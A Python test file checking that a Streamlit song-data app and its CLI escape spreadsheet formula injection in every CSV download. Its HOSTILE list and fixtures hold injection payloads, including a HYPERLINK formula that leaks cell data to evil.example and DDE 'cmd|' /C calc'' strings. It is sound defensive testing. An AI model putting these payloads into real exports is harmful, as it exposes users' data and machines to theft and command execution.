"""Nothing the product writes for a person can run as a formula: core.safe_csv, and every CSV the pages and the CLI
hand out (Overview and Distributions downloads, the filtered songs, What-if's scored CSV, comparison tables,
`python -m core score`)."""
from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import streamlit

from core import schema, sources
from core.comparison.exports import table_to_csv
from core.models import suites as S
from core.safe_csv import FORMULA_TRIGGERS, neutralise, to_csv_bytes, write_csv


ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
HOSTILE = [HYPERLINK, "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd", "\t=1+1",
           "\r=1+1", "＝1+1"]


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


def _assert_inert(data: bytes) -> None:
    """No cell of the CSV starts like a formula, unless it is just a number (-7.5)."""
    for cell in _cells(data):
        if cell.startswith(FORMULA_TRIGGERS):
            float(cell)  # raises for anything that is not a plain number


# ---- the writer ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_leading_cell_gets_a_leading_quote(value):
    assert neutralise(value) == "'" + value
    assert _cells(to_csv_bytes(pd.DataFrame({"t": [value]})))[1] == "'" + value


@pytest.mark.parametrize("value", ["Bon appétit", "A$AP Rocky", "'quoted already", " =not at the start", "", "12"])
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value


def test_numbers_stay_numbers_negative_loudness_included():
    table = pd.DataFrame({"loudness": [-7.678, -60.0, 1.806], "key": [1, -1, 11], "text": ["-7.5", "+3", "-M-"]})
    written = to_csv_bytes(table).decode()
    assert written.splitlines() == ["loudness,key,text", "-7.678,1,-7.5", "-60.0,-1,+3", "1.806,11,'-M-"]
    back = pd.read_csv(io.StringIO(written))
    assert back["loudness"].tolist() == [-7.678, -60.0, 1.806] and back["key"].dtype == "int64"


def test_headers_index_labels_and_categories_are_neutralised_too():
    table = pd.DataFrame({"=cmd": ["a"], "bin": pd.Categorical(["-10 to -5"])},
                         index=pd.Index(["@model"], name="=name"))
    written = to_csv_bytes(table, index=True).decode().splitlines()
    assert written == ["'=name,'=cmd,bin", "'@model,a,'-10 to -5"]
    assert to_csv_bytes(table).decode().splitlines()[0] == "'=cmd,bin"  # no index: its labels are not written


def test_missing_values_stay_empty(tmp_path):
    table = pd.DataFrame({"t": ["=1", None, np.nan], "x": [np.nan, 1.5, -2.0]})
    write_csv(table, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == b"t,x\r\n'=1,\r\n,1.5\r\n,-2.0\r\n"


def test_comparison_tables_export_inert_model_names():
    table = pd.DataFrame({"r2": [0.14, -0.02]}, index=pd.Index([HYPERLINK, "Linear Regression"], name="model"))
    data = table_to_csv(table)
    _assert_inert(data)
    assert "'" + HYPERLINK in _cells(data) and "-0.02" in _cells(data)


# ---- every download and the CLI --------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile_csv() -> bytes:
    """A 2,000-row twin sample whose first songs carry formula payloads in every text column and in a header."""
    frame = sources.twin_dataset(n_rows=2_000).frame.copy()
    for i, payload in enumerate(HOSTILE):
        frame.loc[i, schema.ARTIST] = payload
        frame.loc[i, schema.TRACK_NAME] = payload
    frame["=cmd|' /C calc'!A0"] = "=1+1"
    return frame.to_csv(index=False, lineterminator="\r\n").encode()  # CRLF: the lone \r cell is quoted


@pytest.fixture(scope="module")
def hostile(hostile_csv):
    dataset = sources.load_csv(hostile_csv, name="hostile.csv", source_kind="upload")
    assert len(dataset.frame) == 2_000 and dataset.frame.loc[0, schema.TRACK_NAME] == HYPERLINK  # loaded verbatim
    return dataset


@pytest.fixture
def downloads(monkeypatch) -> list[tuple[str, bytes]]:
    """(label, bytes) of every st.download_button the page draws; deferred data is generated as a click would."""
    captured: list[tuple[str, bytes]] = []
    real = streamlit.download_button

    def capturing(label, data, *args, **kwargs):
        captured.append((label, data() if callable(data) else data))
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", capturing)
    return captured


def _csvs(downloads) -> dict[str, bytes]:
    return {label: data for label, data in downloads if "CSV" in label}


def test_every_overview_download_is_inert(hostile, downloads):
    from tests.app.conftest import open_page_alone

    at = open_page_alone("overview.py", hostile)
    for table in ("info()", "describe()", "Nulls", "nunique()"):
        at.session_state["ov_table"] = table
        at.run()
    files = _csvs(downloads)
    assert "Download head (CSV)" in files and len(files) >= 4, list(files)
    for data in files.values():
        _assert_inert(data)
    assert "'" + HYPERLINK in _cells(files["Download head (CSV)"])


def test_every_distributions_download_and_the_filtered_songs_are_inert(hostile, downloads):
    from tests.app.conftest import open_page_alone

    open_page_alone("distributions.py", hostile)
    files = _csvs(downloads)
    songs = files["Download the filtered songs (CSV)"]
    for data in files.values():
        _assert_inert(data)
    cells = _cells(songs)
    assert "'" + HYPERLINK in cells and "'=cmd|' /C calc'!A0" in cells and "'=1+1" in cells
    back = pd.read_csv(io.BytesIO(songs))
    assert len(back) == 2_000 and (back["loudness"] < 0).sum() > 1_900  # numbers are still numbers
    np.testing.assert_array_equal(back["loudness"].to_numpy(), hostile.frame["loudness"].to_numpy())


@pytest.fixture(scope="module")
def hostile_store(hostile, tmp_path_factory) -> Path:
    from core.models import training
    from core.models.config import SuiteConfig
    from core.models.store import ArtifactStore

    store = tmp_path_factory.mktemp("hostile_store")
    names = ("Dummy (mean)", "Linear Regression", "LOGISTIC REGRESSION", "DUMMY CLASSIFIER (most frequent)")
    suite = training.train_suite(hostile.frame, SuiteConfig(include_ann=False, max_rows=1_500),
                                 hostile.fingerprint, n_jobs=1, specs=[S.SPECS_BY_NAME[n] for n in names])
    ArtifactStore(store).save(suite)
    return store


def test_the_what_if_scored_csv_is_inert(hostile, hostile_csv, hostile_store, downloads, monkeypatch):
    from tests.app.conftest import open_page_alone

    monkeypatch.setenv("SPOTIFY_STORE", str(hostile_store))
    streamlit.cache_resource.clear()
    streamlit.cache_data.clear()
    at = open_page_alone("what_if.py", hostile)
    at.file_uploader(key="wi_batch_upload").set_value(("hostile.csv", hostile_csv, "text/csv")).run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    scored = _csvs(downloads)["Download the predictions (CSV)"]
    _assert_inert(scored)
    assert "'" + HYPERLINK in _cells(scored)


@pytest.mark.slow  # a `python -m core` subprocess imports the model stack
def test_core_score_writes_an_inert_csv(hostile_csv, hostile_store, tmp_path):
    songs, out = tmp_path / "songs.csv", tmp_path / "scored.csv"
    songs.write_bytes(hostile_csv)
    result = subprocess.run([sys.executable, "-m", "core", "score", str(songs), "--out", str(out), "--store",
                             str(hostile_store)], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    data = out.read_bytes()
    _assert_inert(data)
    assert "'" + HYPERLINK in _cells(data)
